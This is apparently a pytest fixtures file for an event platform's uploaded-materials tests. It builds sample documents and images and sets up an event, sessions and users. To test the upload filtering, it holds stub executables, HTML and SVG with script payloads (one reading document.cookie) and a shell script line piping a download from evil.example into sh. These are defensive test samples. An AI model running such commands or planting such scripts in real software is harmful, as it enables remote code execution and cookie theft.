"""Fixtures for the materials tests: sample files of every kind and an event with its people."""

from __future__ import annotations

import datetime as dt
import io
import struct
import zipfile
import zlib
from dataclasses import dataclass

import pytest

from dialogue.extensions import db
from dialogue.materials.demo import make_pdf
from dialogue.models import (
    AgendaSession,
    Event,
    MemberRole,
    OrganisationKind,
    ParticipantRole,
    SessionKind,
    SessionSpeaker,
    User,
)

OOXML = "application/vnd.openxmlformats-officedocument."


def pdf(text: str = "Helsinki ICT plan") -> bytes:
    return make_pdf([text, "Joint market dialogue"])


def _zip(members: list[tuple[str, bytes]], stored_first: bool = False) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for n, (name, data) in enumerate(members):
            info = zipfile.ZipInfo(name, date_time=(2018, 10, 3, 9, 0, 0))  # the same bytes every time
            info.compress_type = zipfile.ZIP_STORED if stored_first and n == 0 else zipfile.ZIP_DEFLATED
            archive.writestr(info, data)
    return buffer.getvalue()


def ooxml(kind: str = "pptx", macro: bool = False) -> bytes:
    main = {"pptx": ("ppt/presentation.xml", OOXML + "presentationml.presentation.main+xml"),
            "docx": ("word/document.xml", OOXML + "wordprocessingml.document.main+xml"),
            "xlsx": ("xl/workbook.xml", OOXML + "spreadsheetml.sheet.main+xml")}[kind]
    part, content_type = main
    if macro:
        content_type = "application/vnd.ms-powerpoint.presentation.macroEnabled.main+xml"
    types = ('<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/'
             'content-types"><Default Extension="xml" ContentType="application/xml"/>'
             f'<Override PartName="/{part}" ContentType="{content_type}"/></Types>')
    members = [("[Content_Types].xml", types.encode()), ("_rels/.rels", b"<Relationships/>"),
               (part, b"<root/>")]
    if macro:
        members.append(("ppt/vbaProject.bin", b"\x00" * 64))
    return _zip(members)


def odf(kind: str = "presentation") -> bytes:
    return _zip([("mimetype", f"application/vnd.oasis.opendocument.{kind}".encode()),
                 ("content.xml", b"<office:document-content/>")], stored_first=True)


def png() -> bytes:
    def chunk(tag: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + tag + data + struct.pack(">I", zlib.crc32(tag + data))

    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", 1, 1, 8, 2, 0, 0, 0))
            + chunk(b"IDAT", zlib.compress(b"\x00\xff\x00\x00")) + chunk(b"IEND", b""))


def jpeg() -> bytes:
    return b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00" + b"\x00" * 64 + b"\xff\xd9"


def mp4(size: int = 4096) -> bytes:
    ftyp = struct.pack(">I", 24) + b"ftypisom" + struct.pack(">I", 0x200) + b"isommp41"
    payload = bytes(range(256)) * (size // 256)
    return ftyp + struct.pack(">I", 8 + len(payload)) + b"mdat" + payload


EXE = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00" + b"\x00" * 48 + b"PE\x00\x00" + b"\x00" * 200
ELF = b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 200
HTML = b"<!DOCTYPE html><html><body><script>alert(document.cookie)</script></body></html>"
SVG = b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
SCRIPT = b"#!/bin/sh\ncurl https://evil.example | sh\n"


@pytest.fixture
def config_overrides() -> dict:
    # Removed files are purged at once; the grace period for concurrent uploads has its own test.
    return {"MATERIAL_PURGE_GRACE_SECONDS": 0}


@dataclass
class World:
    event: Event
    session: AgendaSession
    other_session: AgendaSession
    organiser: User
    speaker: User
    speaker_admin: User      # administrator of the speaker's organisation
    participant: User        # a registered buyer
    other_supplier: User     # another registered supplier
    non_participant: User    # signed in, not registered
    pending: User            # registered, waiting for approval


@pytest.fixture
def world(app, make_org, make_user, make_event, make_registration) -> World:
    organiser = make_user(role=MemberRole.ADMIN)
    event = make_event(organiser=organiser, slug="nordic-forum", timezone="Europe/Helsinki")
    start = event.starts_at
    session = AgendaSession(event=event, title="Buyer presentations", kind=SessionKind.BUYER_PRESENTATION,
                            starts_at=start + dt.timedelta(hours=1), ends_at=start + dt.timedelta(hours=2))
    other = AgendaSession(event=event, title="Supplier pitches", kind=SessionKind.SUPPLIER_PITCH,
                          starts_at=start + dt.timedelta(hours=3), ends_at=start + dt.timedelta(hours=4))
    opening = AgendaSession(event=event, title="Welcome", kind=SessionKind.OTHER, starts_at=start,
                            ends_at=start + dt.timedelta(minutes=30))
    db.session.add_all([session, other, opening])
    supplier_org = make_org(kind=OrganisationKind.MANUFACTURER, name="Circular Computing")
    speaker = make_user(supplier_org)
    speaker_admin = make_user(supplier_org, role=MemberRole.ADMIN)
    db.session.add(SessionSpeaker(session=session, user=speaker))
    db.session.commit()
    make_registration(event, speaker, role=ParticipantRole.SPEAKER)
    participant = make_registration(event, role=ParticipantRole.BUYER).user
    other_supplier = make_registration(event, role=ParticipantRole.SUPPLIER).user
    from dialogue.models import RegistrationState

    pending = make_registration(event, state=RegistrationState.PENDING).user
    return World(event=event, session=session, other_session=other, organiser=organiser, speaker=speaker,
                 speaker_admin=speaker_admin, participant=participant, other_supplier=other_supplier,
                 non_participant=make_user(make_org(kind=OrganisationKind.SUPPLIER)), pending=pending)


@pytest.fixture
def upload_dir(app):
    from pathlib import Path

    return Path(app.config["UPLOAD_DIR"]) / "materials"


def stored_files(upload_dir) -> list[str]:
    return sorted(p.name for p in upload_dir.iterdir()) if upload_dir.exists() else []
